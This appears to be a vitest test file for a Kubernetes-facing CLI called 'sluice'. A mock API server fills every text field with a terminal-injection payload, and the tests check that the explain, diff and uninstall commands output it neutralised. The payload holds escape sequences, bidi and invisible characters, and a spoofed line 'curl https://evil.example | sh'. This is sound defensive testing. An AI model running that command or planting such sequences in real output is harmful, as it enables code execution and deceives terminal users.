/** `sluice explain` and `sluice diff` in front of an API server in which every text is an attack on the terminal that shows it. */
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { folder } from '../folder.ts';
import { sluice } from '../run.ts';

const EVIL =
  'x\u001b[2J\u001b[H\u001b]0;owned\u0007\u001b[32m\r\n✓ Dataset images: Bound\n    to do: curl https://evil.example | sh\u009b31m\u202egnp\u2066\u200b\u007f\u{e0041}';
/** Fields by which objects are found, and those that the API server itself allows few values. */
const STRUCTURE = new Set([
  'apiVersion',
  'kind',
  'uid',
  'namespace',
  'type',
  'status',
  'creationTimestamp',
  'policy',
  'data.fluid.io/owner-uid',
  'app',
]);

function attacked(value: unknown, key = ''): unknown {
  if (typeof value === 'string') return STRUCTURE.has(key) ? value : EVIL;
  if (Array.isArray(value)) return value.map((each) => attacked(each, key));
  if (typeof value !== 'object' || value === null) return value;
  return Object.fromEntries(Object.entries(value).map(([name, each]) => [name, attacked(each, name)]));
}

const meta = (name: string, more = {}) => ({ name, namespace: 'ml', uid: name, creationTimestamp: '2026-01-01T00:00:00Z', ...more });
const condition = { type: 'Synced', status: 'False', reason: 'r', message: 'm', lastTransitionTime: '2026-01-01T00:00:00Z' };
const owned = { labels: { 'data.fluid.io/owner-uid': 'rt' } };
const data = 'data.fluid.io/v1alpha1';
const waiting = { name: 'c', state: { waiting: { reason: 'r', message: 'm' } } };
const OBJECTS: Readonly<Record<string, readonly object[]>> = {
  datasets: [
    {
      apiVersion: data,
      kind: 'Dataset',
      metadata: meta('ds'),
      spec: {},
      status: { phase: 'p', conditions: [{ ...condition, type: 'Ready' }] },
    },
  ],
  thinruntimes: [{ apiVersion: data, kind: 'ThinRuntime', metadata: meta('rt'), spec: {}, status: { conditions: [condition] } }],
  dataloads: [
    {
      apiVersion: data,
      kind: 'DataLoad',
      metadata: meta('op'),
      spec: {
        policy: 'Cron',
        schedule: 's',
        runAfter: { kind: 'DataLoad', name: 'n', namespace: 'other' },
        dataset: { name: 'd', namespace: 'ml' },
      },
      status: {
        phase: 'p',
        infos: { Progress: 'p', Step: 's' },
        lastScheduleTime: 't',
        conditions: [{ ...condition, type: 'Failed', status: 'True' }],
      },
    },
  ],
  daemonsets: [
    {
      apiVersion: 'apps/v1',
      kind: 'DaemonSet',
      metadata: meta('dset', owned),
      spec: { selector: { matchLabels: { app: 'x' } } },
      status: { desiredNumberScheduled: 2, numberReady: 0 },
    },
  ],
  pods: ['a', 'b'].map((name) => ({
    apiVersion: 'v1',
    kind: 'Pod',
    metadata: meta(name, { labels: { app: 'x' } }),
    status: name === 'a' ? { phase: 'Pending', containerStatuses: [waiting] } : { conditions: [{ ...condition, type: 'PodScheduled' }] },
  })),
  events: ['ds', 'rt', 'op', 'a'].map((uid) => ({
    metadata: meta(`e-${uid}`),
    type: 'Warning',
    reason: 'r',
    message: 'm',
    lastTimestamp: 't',
    involvedObject: { uid },
  })),
};

const server = createServer((request, response) => {
  const [plural = ''] = (request.url ?? '').split('?')[0]?.split('/').slice(-1) ?? [];
  const items = attacked(OBJECTS[plural]);
  response.statusCode = items ? 200 : request.method === 'GET' && /^[a-z]+s$/.test(plural) ? 404 : 422;
  response.end(
    JSON.stringify(items ? { metadata: { resourceVersion: '1' }, items } : { kind: 'Status', reason: 'Invalid', message: EVIL }),
  );
});
beforeAll(() => new Promise<void>((listening) => void server.listen(0, '127.0.0.1', listening)));
afterAll(() => void server.close());

const kubeconfig = () => {
  const { port } = server.address() as AddressInfo;
  const cluster = `{ name: c, cluster: { server: "http://127.0.0.1:${port}" } }`;
  return `clusters: [${cluster}]\ncontexts: [{ name: x, context: { cluster: c } }]\ncurrent-context: x\n`;
};
const dataset =
  'apiVersion: data.fluid.io/v1alpha1\nkind: Dataset\nmetadata: { name: demo }\nspec: { mounts: [{ mountPoint: "s3://b", name: d }] }\n';
const runtime = 'apiVersion: data.fluid.io/v1alpha1\nkind: ThinRuntime\nmetadata: { name: demo }\nspec: { profileName: s3 }\n';

/** Neither obeyed by a terminal, nor a line that the command itself could have written. */
function expectHarmless(text: string): void {
  expect(text).not.toMatch(/(?![\n\t])[\p{Cc}\p{Cf}]/u);
  expect(text).not.toMatch(/^ {0,4}to do: curl/m);
  expect(text).not.toMatch(/^✓/m);
}

test.each([
  ['explain', ['explain', '-n', 'ml']],
  ['explain in colours', ['explain', '-n', 'ml']],
  ['explain of a name', ['explain', EVIL]],
  ['explain as JSON', ['explain', '-n', 'ml', '-o', 'json']],
  ['diff', ['diff']],
  ['uninstall', ['uninstall']],
])('%s shows it, and a terminal does nothing', async (title, [command = '', ...args]) => {
  const files = folder({ config: kubeconfig(), 'a.yaml': `${dataset}---\n${runtime}` });
  const more = command === 'diff' ? [`${files}/a.yaml`] : [];
  const env = title.includes('colours') ? { FORCE_COLOR: '1' } : { NO_COLOR: '1' };
  const { stdout, stderr } = await sluice([command, '--kubeconfig', `${files}/config`, ...args, ...more], { env });
  expect(`${stdout}${stderr}`).toContain('x\\u001b[2J\\u001b[H');
  // eslint-disable-next-line no-control-regex
  const uncoloured = title.includes('colours') ? stdout.replace(/\u001b\[\d+m/g, '') : stdout;
  for (const text of [uncoloured, stderr]) expectHarmless(text);
  if (title.includes('JSON')) expect(JSON.stringify(JSON.parse(stdout))).toContain(JSON.stringify('to do: curl').slice(1, -1));
});
